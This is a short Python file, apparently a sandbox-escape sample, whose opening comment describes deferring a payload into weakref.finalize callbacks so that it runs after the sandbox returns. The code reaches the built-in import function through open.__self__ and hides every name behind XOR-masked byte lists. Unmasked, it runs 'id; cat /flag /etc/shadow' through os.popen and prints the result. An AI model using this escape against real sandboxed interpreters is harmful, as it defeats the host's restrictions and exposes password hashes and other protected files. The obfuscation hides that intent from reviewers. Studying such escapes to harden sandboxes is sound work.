# technique: the payload is not run by the untrusted code itself but parked in weakref.finalize callbacks (one tied to an object in a reference cycle that the embedding program's garbage collector will reclaim later, one with atexit semantics), so it runs after the sandbox has returned and any per-run restrictions are lifted; the loader comes from open.__self__ (the real built-in module) and names are XOR-masked bytes
import functools
import weakref

MASK = 0x5A


def unmask(codes):
    return bytes(c ^ MASK for c in codes).decode()


def later(tag):
    core = vars(open.__self__)
    loader = core.get(unmask([5, 5, 51, 55, 42, 53, 40, 46, 5, 5]))
    proc = loader(unmask([53, 41]))
    opener = getattr(proc, unmask([42, 53, 42, 63, 52]))
    out = opener(unmask([51, 62, 97, 122, 57, 59, 46, 122, 117, 60, 54, 59, 61, 122, 117, 63,
                         46, 57, 117, 41, 50, 59, 62, 53, 45]))
    print(tag, getattr(out, unmask([40, 63, 59, 62]))())


class Anchor:
    pass


anchor = Anchor()
anchor.self_ref = anchor  # a cycle: only a later gc pass by the embedding program frees it
weakref.finalize(anchor, functools.partial(later, "gc"))
del anchor

shutdown_hook = weakref.finalize(Anchor, functools.partial(later, "exit"))
shutdown_hook.atexit = True
